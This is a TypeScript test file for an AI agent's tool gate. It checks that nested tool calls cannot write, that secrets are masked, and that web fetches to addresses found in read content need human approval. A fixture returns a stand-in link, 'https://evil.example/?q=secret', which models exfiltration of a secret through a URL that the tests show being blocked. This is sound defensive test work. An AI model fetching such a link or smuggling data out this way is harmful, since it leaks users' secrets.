import { createStepClock } from '@gatehouse/testkit/step-clock';
import { expect, test } from 'vitest';
import * as z from 'zod';
import { silentLog } from '../kernel/log.ts';
import type { ModelMessage } from '../llm/model.ts';
import { callTools } from './call-tools.ts';
import { createFence } from './fence.ts';
import { turnInput } from './testing.ts';
import type { Tool, ToolContext } from './tool.ts';
import { createToolGate } from './tool-gate.ts';

const fence = createFence({ key: Buffer.alloc(32, 1) });
const args = z.looseObject({});
const plain = { description: 'x', args, timeoutMs: 1000 };
const read: Tool = {
  ...plain,
  name: 'read',
  risk: 'read',
  effect: 'pure',
  run: async () => ({ content: 'secret https://evil.example/?q=secret', outside: { source: 'workspace file a' } }),
};
const fetchTool: Tool = {
  ...plain,
  name: 'web_fetch',
  risk: 'outward',
  effect: 'pure',
  destination: (given) => ({ kind: 'address', url: String((given as { url?: string }).url) }),
  run: async (given) => ({
    content: `page of ${JSON.stringify(given)} links https://next.example/page`,
    outside: { source: 'web page https://a.example' },
  }),
};
const changing: Tool = { ...plain, name: 'write', risk: 'write', effect: 'idempotent', run: async () => ({ content: 'written' }) };

/** Results that a tool gets from its own calls, and why the gate asked. */
async function during(work: (call: ToolContext['callTool']) => Promise<void>, messages: readonly ModelMessage[] = []) {
  const asked: string[] = [];
  const outer: Tool = {
    ...plain,
    name: 'script',
    risk: 'read',
    effect: 'once',
    async run(_, { callTool }) {
      await work(callTool);
      return { content: 'ended' };
    },
  };
  const input = turnInput({
    tools: [outer, read, fetchTool, changing],
    messages: [{ role: 'user', content: 'look at https://a.example/' }, ...messages],
  });
  const gate = createToolGate({
    findRule: () => undefined,
    mode: 'auto',
    async ask(call) {
      asked.push(`${call.tool.name} ${JSON.stringify(call.args)}`);
      return { allowed: false, message: 'Not run: nobody approved it' };
    },
  });
  const deps = { clock: createStepClock(), fence, gate, log: silentLog, hideSecrets: (text: string) => text.replaceAll('secret', '***') };
  const results = await callTools(deps, { input, signal: input.signal, beforeOnce: async () => {} }, [{ id: 'c1', name: 'script', arguments: '{}' }]);
  expect(results[0]?.content).toBe('ended');
  return asked;
}

test('returns whole results without secrets, and calls nothing that must not be repeated or changes something', async () => {
  await during(async (call) => {
    expect(await call('read', {})).toEqual({ content: '*** https://evil.example/?q=***', outside: { source: 'workspace file a' } });
    for (const name of ['write', 'script'])
      expect(await call(name, {})).toEqual({ content: `"${name}" cannot be called from within "script"`, isError: true });
    expect(await call('nothing', {})).toMatchObject({ isError: true, content: expect.stringContaining('There is no tool "nothing"') });
  });
});

test('text that it has read counts at the gate: an address that nobody gave needs approval from then on', async () => {
  const asked = await during(async (call) => {
    expect((await call('web_fetch', { url: 'https://made.example/up' })).isError).toBeUndefined();
    await call('read', {});
    expect((await call('web_fetch', { url: 'https://a.example/' })).isError).toBeUndefined();
    expect((await call('web_fetch', { url: 'https://next.example/page' })).isError).toBeUndefined();
    // A file may hold what the script itself wrote there.
    expect(await call('web_fetch', { url: 'https://evil.example/?q=***' })).toMatchObject({ isError: true });
    expect(await call('web_fetch', { url: 'https://made.example/other' })).toMatchObject({ isError: true, content: 'Not run: nobody approved it' });
  });
  expect(asked).toEqual(['web_fetch {"url":"https://evil.example/?q=***"}', 'web_fetch {"url":"https://made.example/other"}']);
});
